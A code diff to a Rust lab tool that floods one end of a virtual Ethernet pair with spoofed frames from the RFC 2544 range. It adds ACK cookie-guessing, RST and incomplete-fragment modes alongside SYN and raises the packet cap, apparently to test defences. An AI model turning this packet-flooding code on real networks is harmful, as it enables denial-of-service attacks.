@@ -1,4 +1,4 @@
-//! A SYN flood for the lab: SYNs from invented addresses, as fast as asked, on one end of a virtual Ethernet pair.
+//! A flood for the lab: frames from invented addresses, as fast as asked, on one end of a virtual Ethernet pair.
 //!
 //! For `scripts/live` only. It refuses any interface that is not a veth, and any target outside private address
 //! space; the sources are those set aside for measurements (198.18.0.0/15, RFC 2544).
@@ -11,9 +11,12 @@ use std::net::SocketAddrV4;
 use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
 use std::time::{Duration, Instant};
 
-/// Sends SYNs from invented addresses into a virtual Ethernet pair.
+/// Sends frames from invented addresses into a virtual Ethernet pair.
 #[derive(Parser)]
 struct Args {
+    /// What the frames are.
+    #[arg(long, value_enum, default_value_t = Kind::Syn)]
+    kind: Kind,
     /// One end of a veth pair.
     #[arg(long)]
     interface: String,
@@ -23,12 +26,25 @@ struct Args {
     /// Address and port that they ask for.
     #[arg(long)]
     target: SocketAddrV4,
-    /// How many; at most ten million.
-    #[arg(long, default_value_t = 1_000_000, value_parser = clap::value_parser!(u64).range(1..=10_000_000))]
+    /// How many; at most a hundred million.
+    #[arg(long, default_value_t = 1_000_000, value_parser = clap::value_parser!(u64).range(1..=100_000_000))]
     count: u64,
     /// At most so many a second.
     #[arg(long, default_value_t = 100_000, value_parser = clap::value_parser!(u64).range(1..=10_000_000))]
     rate: u64,
+}
+
+/// Kinds of frames, all of one length.
+#[derive(Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
+enum Kind {
+    /// Requests for a connection, as a usual client sends them.
+    Syn,
+    /// Acknowledgements of SYN-ACKs that nobody sent: guesses at a cookie.
+    Ack,
+    /// Resets of connections that nobody has.
+    Rst,
+    /// First fragments of packets whose rest never comes.
+    Fragment,
 }
 
 /// Ethernet, IPv4, TCP with the options of a usual client: MSS, SACK, timestamps, window scale.
@@ -72,17 +88,17 @@ fn main() -> anyhow::Result<()> {
             random ^= random << 13;
             random ^= random >> 7;
             random ^= random << 17;
-            syn(frame, &args, &own, random);
+            write(frame, &args, &own, random);
         }
         sent += send(&fd, &mut frames[..n])? as u64;
     }
     let seconds = begun.elapsed().as_secs_f64();
-    println!("{sent} SYNs in {seconds:.1} s");
+    println!("{sent} frames in {seconds:.1} s");
     Ok(())
 }
 
-/// Writes a SYN whose source and numbers are drawn from `random`.
-fn syn(frame: &mut [u8; FRAME], args: &Args, own: &[u8; 6], random: u64) {
+/// Writes a frame whose source and numbers are drawn from `random`.
+fn write(frame: &mut [u8; FRAME], args: &Args, own: &[u8; 6], random: u64) {
     let r = random.to_be_bytes();
     frame[..6].copy_from_slice(&args.to);
     frame[6..12].copy_from_slice(own);
@@ -91,6 +107,9 @@ fn syn(frame: &mut [u8; FRAME], args: &Args, own: &[u8; 6], random: u64) {
     ip.copy_from_slice(&[0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, 6, 0, 0, 198, 18 | r[0] & 1, r[1], r[2], 0, 0, 0, 0]);
     ip[2..4].copy_from_slice(&((FRAME - 14) as u16).to_be_bytes());
     ip[16..20].copy_from_slice(&args.target.ip().octets());
+    if args.kind == Kind::Fragment {
+        (ip[4], ip[5], ip[6]) = (r[3], r[4], 0x20);
+    }
     let sum = checksum(0, ip);
     ip[10..12].copy_from_slice(&sum.to_be_bytes());
     // Addresses, protocol and length are part of the checksum of TCP.
@@ -99,7 +118,15 @@ fn syn(frame: &mut [u8; FRAME], args: &Args, own: &[u8; 6], random: u64) {
     tcp[..2].copy_from_slice(&(u16::from_be_bytes([r[3], r[4]]) | 1024).to_be_bytes());
     tcp[2..4].copy_from_slice(&args.target.port().to_be_bytes());
     tcp[4..8].copy_from_slice(&[r[5], r[6], r[7], r[1]]);
-    tcp[8..20].copy_from_slice(&[0, 0, 0, 0, ((20 + OPTIONS.len()) << 2) as u8, 2, 0xfa, 0xf0, 0, 0, 0, 0]);
+    let flags = match args.kind {
+        Kind::Syn | Kind::Fragment => 2,
+        Kind::Rst => 4,
+        Kind::Ack => 16,
+    };
+    tcp[8..20].copy_from_slice(&[0, 0, 0, 0, ((20 + OPTIONS.len()) << 2) as u8, flags, 0xfa, 0xf0, 0, 0, 0, 0]);
+    if args.kind == Kind::Ack {
+        tcp[8..12].copy_from_slice(&(random.wrapping_mul(0x9e37_79b9_7f4a_7c15) as u32).to_be_bytes());
+    }
     tcp[20..].copy_from_slice(&OPTIONS);
     let sum = checksum(pseudo, tcp);
     tcp[16..18].copy_from_slice(&sum.to_be_bytes());
